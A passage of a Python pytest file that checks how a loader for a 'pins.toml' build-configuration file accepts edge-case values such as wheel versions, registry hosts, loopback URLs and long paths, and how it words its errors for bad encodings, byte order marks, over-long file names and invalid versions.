        lambda p: p.wheels["torch"].file,
        "torch-2.12.0-py3-none-any.whl",
    ),
    "a build of the public version pinned": (
        wheel_file(TORCH),
        lambda p: p.wheels["torch"].file,
        TORCH,
    ),
    "the build the local version pins": (
        wheel_file(TORCH, "2.12.0+rocm7.14.0.lw.git1a2b3c4d"),
        lambda p: p.wheels["torch"].version,
        "2.12.0+rocm7.14.0.lw.git1a2b3c4d",
    ),
    "a file beside no version": (
        wheel_file(TORCH.replace("2.12.0", "2.13.0rc2"), ""),
        lambda p: p.wheels["torch"].file,
        TORCH.replace("2.12.0", "2.13.0rc2"),
    ),
    "an image name in a registry with a port": (
        lambda t: edit_toml(t, ["image", "name"], "127.0.0.1:5000/verl__rocm"),
        lambda p: p.image.name,
        "127.0.0.1:5000/verl__rocm",
    ),
    "a base image from a host with capitals": (
        lambda t: edit_toml(t, ["base", "image"], "Registry.Example.org/rocm/primus:V26.4"),
        lambda p: p.base.image,
        "Registry.Example.org/rocm/primus:V26.4",
    ),
    "the bounds of an integer": (
        lambda t: edit_toml(edit_toml(t, ["build", "max_jobs"], 1024), ["rocm", "pin_priority"], 1),
        lambda p: (p.build.max_jobs, p.rocm.pin_priority),
        (1024, 1),
    ),
    "a source name as long as a file name leaves it": (
        a_source("x" * 234),
        lambda p: len(next(name for name in p.sources if name.startswith("x"))),
        234,
    ),
    "links in a chain, and one beside another's folder": (
        linked(("site:a", "site:b"), ("site:b", "site:c/lib"), ("site:c2", "site:a")),
        lambda p: dict(p.links),
        {
            "site:a": "site:b",
            "site:amdsmi": "site:_rocm_sdk_core/share/amd_smi/amdsmi",
            "site:b": "site:c/lib",
            "site:c2": "site:a",
        },
    ),
    "a leap day": (
        lambda t: edit_toml(t, ["image", "released"], "2028-02-29"),
        lambda p: p.image.released,
        "2028-02-29",
    ),
    "a loopback URL with its port": (
        lambda t: edit_toml(t, ["python", "index"], "http://127.0.0.1:65535/simple"),
        lambda p: p.python.index,
        "http://127.0.0.1:65535/simple",
    ),
}


@pytest.mark.parametrize("case", sorted(GOOD_VALUES))
def test_values_next_to_the_refused_ones_load(case: str, pins_text: str) -> None:
    edit, read, expected = GOOD_VALUES[case]
    assert read(pins.loads(edit(pins_text))) == expected


def test_a_file_that_is_not_utf8_names_the_line(write_pins: Callable[[str], Path]) -> None:
    path = write_pins("")
    path.write_bytes(b"[image]\nname = 'verl'\nversion = '\xff'\n")
    with pytest.raises(PinsError) as caught:
        pins.load(path)
    assert str(caught.value) == (
        f"{path}: line 3: is not UTF-8 (byte 0xff at offset 33); save the file as UTF-8"
    )


def test_a_file_with_a_byte_order_mark_is_explained(
    write_pins: Callable[[str], Path], pins_text: str
) -> None:
    path = write_pins("")
    path.write_text(pins_text, encoding="utf-8-sig")  # what Notepad writes
    with pytest.raises(PinsError) as caught:
        pins.load(path)
    assert str(caught.value) == (
        f"{path}: line 1, column 1: starts with a UTF-8 byte order mark (BOM), which TOML "
        "does not allow; save the file as UTF-8 without a byte order mark"
    )


def test_a_folder_is_not_a_pins_file(tmp_path: Path) -> None:
    with pytest.raises(PinsError) as caught:
        pins.load(tmp_path)
    assert str(caught.value) == f"{tmp_path}: cannot be read (Is a directory); check the file"


def test_patches_keep_the_order_they_are_written_in(pins_text: str) -> None:
    written = pins.load(PINS).sources["sglang"].patches
    swapped = [written[1], written[0], *written[2:]]
    loaded = pins.loads(edit_toml(pins_text, ["sources", "sglang", "patches"], swapped))
    assert loaded.sources["sglang"].patches == tuple(swapped)
    megatron = ["docker/patches/megatron-core/b.patch", "docker/patches/megatron-core/a.patch"]
    loaded = pins.loads(edit_toml(pins_text, ["python", "patches", "megatron-core"], megatron))
    assert loaded.python.patches["megatron-core"] == tuple(megatron)


@given(st.text() | st.text(alphabet="ab/:@'\n\u2028…", max_size=5_000))
def test_a_message_quotes_any_value_on_one_short_line(value: str) -> None:
    quoted = shown(value)
    assert len(quoted.splitlines()) == 1
    assert len(quoted) <= 4 * LONGEST + 40  # an escape is at most 4 characters; then the length
    if "://" in value and "@" in value:
        return  # credentials hidden: tested with the pins above
    if len(value) > LONGEST:
        suffix = f" ({len(value)} characters)"
        assert quoted.endswith(suffix)
        quoted = quoted.removesuffix(suffix)
        assert quoted[-2] == "…"
        quoted = quoted[:-2] + quoted[-1]
    assert ast.literal_eval(quoted) == value[:LONGEST]  # a prefix of the value, quoted as is


def test_sources_of_one_workspace_may_both_wait_for_the_lock() -> None:
    text = edit_toml(PINS.read_text(), ["sources", "sgl_kernel", "commit"], "")
    loaded = pins.loads(edit_toml(text, ["sources", "sglang", "commit"], ""))
    assert (loaded.sources["sglang"].commit, loaded.sources["sgl_kernel"].commit) == ("", "")


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (["sources", "sglang", "patches"], ["docker/patches/sglang/" + "x" * 300 + ".patch"]),
        (["image", "workdir"], "/workspace/" + "y" * 256),
    ],
)
def test_a_path_no_file_system_holds_is_refused_in_one_line(
    pins_text: str, path: list[str], value: str | list[str]
) -> None:
    """Not an OSError (File name too long) from deep inside the first command that reads it."""
    with pytest.raises(PinsError) as caught:
        pins.loads(edit_toml(pins_text, path, value))
    said = str(caught.value)
    assert said.startswith(f"pins.toml: {pins.format_path(tuple(path))}: ")
    assert said.endswith(
        " bytes, over the 255 a file name holds; shorten each part of the path to 255 bytes or "
        "fewer"
    )
    assert len(said.splitlines()) == 1


def test_a_source_version_that_is_not_a_version_is_refused(pins_text: str) -> None:
    with pytest.raises(PinsError) as caught:
        pins.loads(edit_toml(pins_text, ["sources", "vllm", "version"], "banana"))
    assert str(caught.value) == (
        "pins.toml: [sources.vllm].version: 'banana' is not a PEP 440 version; write an exact "
        "PEP 440 version such as 1.2.3"
    )
